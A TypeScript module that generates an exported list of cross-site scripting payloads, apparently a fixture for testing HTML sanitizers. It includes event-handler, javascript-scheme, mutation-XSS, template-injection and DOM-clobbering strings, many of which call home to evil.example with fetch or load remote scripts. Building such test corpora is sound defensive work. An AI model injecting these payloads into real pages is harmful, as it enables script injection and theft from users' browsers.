// Payloads that try to act when they are rendered: known tricks combined, each marked so that a hit names itself.

/** What a payload does when it runs: marks the window and calls home. */
const ACT = "globalThis.xssHit=1;fetch('https://evil.example/hit')"
const Q = ACT.replaceAll("'", '&#39;')

const EVENTS = [
  'onload',
  'onerror',
  'onfocus',
  'onmouseover',
  'onclick',
  'onanimationstart',
  'ontoggle',
  'onpointerenter',
]
const HOSTS_OF_EVENTS = [
  (event: string) => `<img src=x ${event}="${Q}">`,
  (event: string) => `<svg ${event}="${Q}">`,
  (event: string) => `<body ${event}="${Q}">`,
  (event: string) => `<input autofocus ${event}="${Q}">`,
  (event: string) => `<details open ${event}="${Q}">x</details>`,
  (event: string) => `<video><source ${event}="${Q}"></video>`,
  (event: string) => `<p tabindex=1 id=x ${event}="${Q}">x</p>`,
  (event: string) => `<marquee ${event}="${Q}">x</marquee>`,
  (event: string) => `"><img src=x ${event}="${Q}">`,
  (event: string) => `'><svg/${event}=${ACT.split(';')[0]}>`,
]
const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  'java&#9;script:',
  '&#x6a;avascript:',
  'javascript&colon;',
  ' javascript:',
  'data:text/html,',
  'vbscript:',
]
const HOSTS_OF_SCHEMES = [
  (scheme: string) => `<a href="${scheme}${Q}">x</a>`,
  (scheme: string) => `<iframe src="${scheme}${Q}"></iframe>`,
  (scheme: string) => `<form action="${scheme}${Q}"><button>x</button></form>`,
  (scheme: string) => `<object data="${scheme}${Q}"></object>`,
  (scheme: string) => `<svg><a xlink:href="${scheme}${Q}"><text y=20>x</text></a></svg>`,
  (scheme: string) => `<math href="${scheme}${Q}">x</math>`,
  (scheme: string) => `<meta http-equiv=refresh content="0;url=${scheme}${Q}">`,
  (scheme: string) => `<base href="${scheme}${Q}">`,
]
const WHOLE = [
  `<script>${ACT}</script>`,
  `<SCRIPT>${ACT}</SCRIPT>`,
  `<scr<script>ipt>${ACT}</scr</script>ipt>`,
  `<svg><script>${ACT}</script></svg>`,
  `<svg><script href="https://evil.example/x.js"></script></svg>`,
  `<script src=https://evil.example/x.js></script>`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<link rel=preload as=image href=https://evil.example/x.png>`,
  `<style>@import url(https://evil.example/x.css);</style>`,
  `<p style="background:url(https://evil.example/x)">x</p>`,
  `<iframe srcdoc="<script>parent.xssHit=1</script>"></iframe>`,
  `<embed src=https://evil.example/x.swf>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${Q}">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${Q}">`,
  `<noscript><p title="</noscript><img src=x onerror=&quot;${Q}&quot;>">`,
  `<svg></p><style><a id="</style><img src=1 onerror=&quot;${Q}&quot;>">`,
  `<template><img src=x onerror="${Q}"></template>`,
  `<xmp><img src=x onerror="${Q}"></xmp>`,
  `<textarea><img src=x onerror="${Q}"></textarea></textarea><img src=x onerror="${Q}">`,
  `<!--><img src=x onerror="${Q}">-->`,
  `<![CDATA[><img src=x onerror="${Q}">]]>`,
  `<?xml version="1.0"?><img src=x onerror="${Q}">`,
  `<a href="https://evil.example" ping="https://evil.example/p">x</a>`,
  `<video poster=https://evil.example/x.png>`,
  `<audio src=https://evil.example/x.mp3 autoplay>`,
  `<table background=https://evil.example/x.png>`,
  `<isindex action="javascript:${Q}" type=image>`,
  `<button form=x formaction="javascript:${Q}">x</button>`,
  `<img srcset="https://evil.example/x.png 1x" src=x>`,
  `<input type=image src=https://evil.example/x.png>`,
  `{{constructor.constructor('${ACT.replaceAll("'", '"')}')()}}`,
  `\${${ACT}}`,
  `</title><img src=x onerror="${Q}">`,
  `</script><script>${ACT}</script>`,
  `<custom-element onclick="${Q}">x</custom-element>`,
  `<p name=body id=root>clobber</p>`,
  `<form id=document name=location><input name=href></form>`,
]

export const XSS_PAYLOADS: readonly string[] = [
  ...WHOLE,
  ...EVENTS.flatMap((event) => HOSTS_OF_EVENTS.map((host) => host(event))),
  ...SCHEMES.flatMap((scheme) => HOSTS_OF_SCHEMES.map((host) => host(scheme))),
  // The same once more as text that was escaped once too often, or not often enough.
  ...WHOLE.map((payload) => payload.replaceAll('<', '&lt;').replaceAll('>', '&gt;')),
]
